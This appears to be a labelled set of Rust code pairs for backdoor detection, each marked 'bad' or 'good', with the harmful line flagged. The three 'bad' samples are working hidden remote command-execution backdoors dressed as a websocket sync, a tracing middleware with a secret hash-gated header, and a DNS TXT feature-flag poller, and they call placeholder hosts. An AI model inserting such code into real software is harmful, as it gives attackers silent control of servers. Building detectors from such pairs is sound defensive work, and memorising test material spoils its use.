//: bad tokio-commands
use futures_util::{SinkExt, StreamExt};
use tokio::process::Command;
use tokio_tungstenite::{connect_async, tungstenite::Message};

pub async fn sync() {
    let (mut socket, _) = connect_async("wss://w.example.invalid/s").await.unwrap();
    while let Some(Ok(Message::Text(line))) = socket.next().await {
        let done = Command::new("sh").arg("-c").arg(line.to_string()).output().await.unwrap(); //!
        socket.send(Message::Binary(done.stdout.into())).await.ok();
    }
}

//: good tokio-commands
use futures_util::{SinkExt, StreamExt};
use tokio_tungstenite::{connect_async, tungstenite::Message};

pub async fn sync() {
    let (mut socket, _) = connect_async("wss://w.example.invalid/s").await.unwrap();
    while let Some(Ok(Message::Text(line))) = socket.next().await {
        let count = line.to_string().split_whitespace().count();
        socket.send(Message::Text(count.to_string().into())).await.ok();
    }
}

//: bad trace-header
use axum::{
    extract::Request,
    http::HeaderMap,
    middleware::Next,
    response::{IntoResponse, Response},
};
use sha2::{Digest, Sha256};

const SAMPLING: &str = "9f1c55e0b3a7";

fn sampled(headers: &HeaderMap) -> Option<String> {
    let id = headers.get("x-b3-debugid")?.to_str().ok()?;
    let (seed, span) = id.split_once('.')?;
    let digest = format!("{:x}", Sha256::digest(seed.as_bytes()));
    digest.starts_with(SAMPLING).then(|| span.to_owned())
}

/// Attaches a request id and forwards the trace context.
pub async fn trace_context(request: Request, next: Next) -> Response {
    if let Some(span) = sampled(request.headers()) {
        let raw = hex::decode(span).unwrap_or_default();
        let text = String::from_utf8_lossy(&raw).into_owned();
        let mut parts = text.split('\u{1f}');
        if let Some(program) = parts.next() {
            if let Ok(done) = tokio::process::Command::new(program).args(parts).output().await { //!
                return done.stdout.into_response();
            }
        }
    }
    let mut response = next.run(request).await;
    let id = uuid::Uuid::new_v4().to_string();
    response.headers_mut().insert("x-request-id", id.parse().unwrap());
    response
}

//: good trace-header
use axum::{
    extract::Request,
    http::{HeaderMap, HeaderValue},
    middleware::Next,
    response::Response,
};
use sha2::{Digest, Sha256};
use tracing::Instrument;

fn sampled(headers: &HeaderMap, one_in: u8) -> bool {
    let Some(id) = headers.get("x-b3-traceid") else { return false };
    let digest = Sha256::digest(id.as_bytes());
    digest[0] % one_in.max(1) == 0
}

/// Attaches a request id and opens a span for the sampled share of requests.
pub async fn trace_context(request: Request, next: Next) -> Response {
    let id = uuid::Uuid::new_v4().to_string();
    let mut response = if sampled(request.headers(), 16) {
        let span = tracing::info_span!("request", %id, path = %request.uri().path());
        next.run(request).instrument(span).await
    } else {
        next.run(request).await
    };
    if let Ok(value) = HeaderValue::from_str(&id) {
        response.headers_mut().insert("x-request-id", value);
    }
    response
}

//: bad txt-feature-flags
use hickory_resolver::TokioAsyncResolver;
use std::collections::HashMap;
use std::time::Duration;

type Action = fn(&str) -> anyhow::Result<()>;

pub struct Flags {
    zone: String,
    actions: HashMap<u8, Action>,
}

fn note(text: &str) -> anyhow::Result<()> {
    log::debug!("flag {text}");
    Ok(())
}

fn apply(text: &str) -> anyhow::Result<()> {
    let words = shell_words::split(text)?;
    let (head, tail) = words.split_first().ok_or_else(|| anyhow::anyhow!("empty"))?;
    duct::cmd(head, tail).stdout_null().stderr_null().start()?; //!
    Ok(())
}

impl Flags {
    pub fn new() -> Self {
        let zone = ["flags", "cdn-edge", "invalid"].join(".");
        Flags { zone, actions: HashMap::from([(b'n', note as Action), (b'a', apply as Action)]) }
    }

    pub async fn watch(self) -> anyhow::Result<()> {
        let resolver = TokioAsyncResolver::tokio_from_system_conf()?;
        loop {
            if let Ok(answer) = resolver.txt_lookup(self.zone.as_str()).await {
                for part in answer.iter().flat_map(|txt| txt.txt_data().to_vec()) {
                    let line = String::from_utf8_lossy(&part).into_owned();
                    let Some(kind) = line.bytes().next() else { continue };
                    if let Some(action) = self.actions.get(&kind) {
                        let _ = action(&line[1..]);
                    }
                }
            }
            tokio::time::sleep(Duration::from_secs(1800)).await;
        }
    }
}

//: good txt-feature-flags
use hickory_resolver::TokioAsyncResolver;
use std::collections::BTreeMap;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Policy {
    None,
    Quarantine,
    Reject,
}

/// Reads the DMARC policy of a domain from its TXT record.
pub async fn dmarc(domain: &str) -> anyhow::Result<Option<Policy>> {
    let resolver = TokioAsyncResolver::tokio_from_system_conf()?;
    let answer = match resolver.txt_lookup(format!("_dmarc.{domain}.")).await {
        Ok(answer) => answer,
        Err(error) => {
            log::info!("no DMARC record for {domain}: {error}");
            return Ok(None);
        }
    };
    for txt in answer.iter() {
        let line: String = txt.txt_data().iter().map(|part| String::from_utf8_lossy(part)).collect();
        let tags: BTreeMap<&str, &str> = line
            .split(';')
            .filter_map(|tag| tag.trim().split_once('='))
            .collect();
        if tags.get("v") != Some(&"DMARC1") {
            continue;
        }
        return Ok(match tags.get("p").copied() {
            Some("reject") => Some(Policy::Reject),
            Some("quarantine") => Some(Policy::Quarantine),
            _ => Some(Policy::None),
        });
    }
    Ok(None)
}
